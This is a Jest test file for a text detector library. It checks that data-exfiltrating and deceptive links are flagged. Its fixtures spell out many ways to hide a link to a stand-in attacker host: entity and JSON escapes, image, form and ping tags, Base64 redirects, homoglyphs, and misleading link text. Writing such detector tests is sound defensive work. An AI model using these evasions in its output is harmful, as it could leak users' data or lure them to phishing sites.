import { describe, expect, it } from "@jest/globals";
import { detect, exfiltration, urls } from "../../../src/detectors/index.js";

describe("links that carry data", () => {
  it.each([
    ["entities of a page", "&lt;img src=&quot;https://evil.example/x&quot;&gt;"],
    ["entities in an attribute", '<img src="&#x68;ttps://evil.example/x">'],
    ["entities for slashes", '<img src="https:&#47;&#47;evil.example/x">'],
    ["entities in Markdown", "![x](&#104;ttps://evil.example/x.png)"],
    ["escapes of JSON around HTML", '{"html":"<img src=\\"https://evil.example/x.png\\">"}'],
    ["escapes of JSON for all signs", "\\u003cimg src=\\u0022https://evil.example/x\\u0022\\u003e"],
    ["a blank in an attribute", '<img src=" https://evil.example/x">'],
    ["a tab in an attribute", '<img src="\thttps://evil.example/x">'],
    ["brackets in the text of an image", "![a [nested] b](https://evil.example/x.png)"],
    ["a form", '<form action="https://evil.example/x" method=post>'],
    ["a ping", '<a href="/" ping="https://evil.example/x">'],
    ["a set of images", "<p style='background-image:image-set(\"https://evil.example/x\" 1x)'>"],
    ["BBCode", "[img]https://evil.example/x.png[/img]"],
    ["reStructuredText", ".. image:: https://evil.example/x.png"],
    ["AsciiDoc", "image::https://evil.example/x.png[]"],
    ["LaTeX", "\\includegraphics[width=1cm]{https://evil.example/x.png}"],
    ["an encoded redirection", "https://example.org/r?u=https%3A%2F%2Fevil.example%2F%3Fdata%3Dsecretplan"],
  ])("are found in %s", (_, text) => {
    expect(detect(text, [exfiltration({ allow: ["example.org"] })])).not.toEqual([]);
  });

  it.each([
    "https://de.wikipedia.org/wiki/%C3%84pfel_und_%22Birnen%22",
    "https://a.test/share?q=Hello%20World&lang=en",
    "action: https://a.test/page and <a href='https://a.test/page'>page</a>",
    "&lt;a href=&quot;https://a.test/page&quot;&gt;page&lt;/a&gt;",
    '{"link":"https:\\/\\/a.test\\/page","next":"\\u0068i"}',
  ])("are not found in %s", (text) => {
    expect(detect(text, [exfiltration()])).toEqual([]);
  });
});

describe("links that lead elsewhere", () => {
  it.each([
    ["an encoded redirection", "https://example.org/redirect?url=https%3A%2F%2Fevil.example%2F", "DENIED_URL"],
    ["a redirection without a scheme", "see https://example.org/r?u=%2F%2Fevil.example", "DENIED_URL"],
    ["a redirection in Base64", "https://example.org/r?u=aHR0cHM6Ly9ldmlsLmV4YW1wbGUv", "DENIED_URL"],
    ["an invisible character in the scheme", "ht\u200btps://evil.example", "DENIED_URL"],
    ["entities", "https&colon;//evil&#46;example/", "DENIED_URL"],
    ["an escape of JSON", "\\u0068ttps://evil.example/", "DENIED_URL"],
    ["a text of Markdown", "[https://www.paypal.com/login](https://evil.test/login)", "DECEPTIVE_URL"],
    ["a text of HTML", '<a class="x" href="https://evil.test/">https://paypal.com</a>', "DECEPTIVE_URL"],
    ["an address of a gateway", "http://[64:ff9b::7f00:1]/", "DECEPTIVE_URL"],
    ["a dotted letter", "https://githuḅ.com/", "DECEPTIVE_URL"],
  ])("are found behind %s", (_, text, type) => {
    expect(detect(text, [urls({ deny: ["evil.example"] })])).toMatchObject([{ type }]);
  });

  it.each([
    "[https://example.com](https://www.example.com/page) and [www.example.com](https://example.com)",
    "[https://example.com/a](https://web.archive.org/web/2020/https://example.com/a)",
    "[README.md](https://github.com/a/b) [script.sh](https://a.test/script.sh)",
    '<a href="https://www.example.com/">https://example.com</a> <a href="https://a.test">home</a>',
    "https://münchen.de/?q=%C3%BC https://пример.рф/%D0%B0",
  ])("are not found in %s", (text) => {
    expect(detect(text, [urls({ deny: ["evil.example"] })])).toEqual([]);
  });
});
